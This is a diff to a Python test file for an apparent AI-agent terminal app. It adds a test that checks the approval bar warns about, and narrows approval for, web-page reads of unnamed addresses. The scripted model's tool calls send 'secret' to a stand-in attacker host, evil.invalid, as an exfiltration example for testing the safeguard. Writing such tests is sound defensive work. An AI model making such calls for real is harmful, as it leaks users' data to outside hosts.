@@ -6,10 +6,13 @@ from pathlib import Path
 
 from bnagpt_tui.backend.allowed_tools import AllowedTools
 from bnagpt_tui.backend.approvals import Approvals
+from bnagpt_tui.backend.toolbox import Kit, Toolbox
+from bnagpt_tui.backend.tools.read_page import read_page
+from bnagpt_tui.backend.tools.web import WebOptions
 from bnagpt_tui.widgets.approval_bar import ApprovalBar
 from tests.app.hands import ACTS, LONG, acts, armed, engine, send
 from tests.app.session import OpenApp
-from tests.fakes import DONE, Gate, Hands
+from tests.fakes import CALLS, DONE, Gate, Hands, call
 from tests.waiting import until
 
 
@@ -172,3 +175,34 @@ async def test_what_the_settings_allow_is_taken_back_there(open_app: OpenApp) ->
         await session.type("act")
         await session.press("enter")
         await session.sees("The setting “allow” in config.toml allows act")
+
+
+async def test_an_address_that_nobody_named_is_shown_whole_with_how_far_a_yes_reaches(
+    open_app: OpenApp,
+) -> None:
+    box = Toolbox(lambda: Kit((read_page(WebOptions()),)))
+    long = f"https://evil.invalid/{'a/' * 120}end"
+    scripted = engine(
+        [call("c1", "read_page", '{"address":"https://evil.invalid/?q=secret"}'), CALLS],
+        [call("c2", "read_page", f'{{"address":"{long}"}}'), CALLS],
+        ["Well.", DONE],
+    )
+    async with open_app(engine=scripted, toolbox=box) as session:
+        await send(session, "read the news")
+        await armed(session)
+        await session.sees("https://evil.invalid/?q=secret")
+        await session.sees("Neither you nor a search named this address.")
+        await session.sees("y yes, evil.invalid in this conversation")
+        assert "c in this" not in session.shown()
+        await session.press("c")
+        assert session.chat.tools.waiting(session.screen.open_id)
+        await session.press("y")
+        await session.sees("long or odd")
+        await armed(session)
+        await session.sees("a/end")
+        await session.sees("y yes, once")
+        assert "a always" not in session.shown()
+        await session.press("a", "a", "c")
+        assert session.chat.tools.waiting(session.screen.open_id)
+        await session.press("n")
+        await session.sees("Well.")
